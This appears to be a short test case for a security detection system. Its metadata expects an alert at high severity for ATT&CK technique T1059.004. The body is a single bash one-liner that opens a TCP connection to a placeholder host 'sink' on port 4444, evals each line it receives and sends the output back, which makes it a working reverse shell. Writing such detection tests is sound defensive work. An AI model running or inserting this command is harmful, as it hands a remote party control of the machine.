# id: N01b
# title: bash reads commands from a connection that is not its input
# expect: alert
# severity: high
# kinds: process, network
# attck: T1059.004
# image: tools
# launch: app
# peers: sink:4444

timeout 5 bash -c 'exec 3<>/dev/tcp/sink/4444; while read -r line <&3; do eval "$line" >&3 2>&1; done'
exit 0
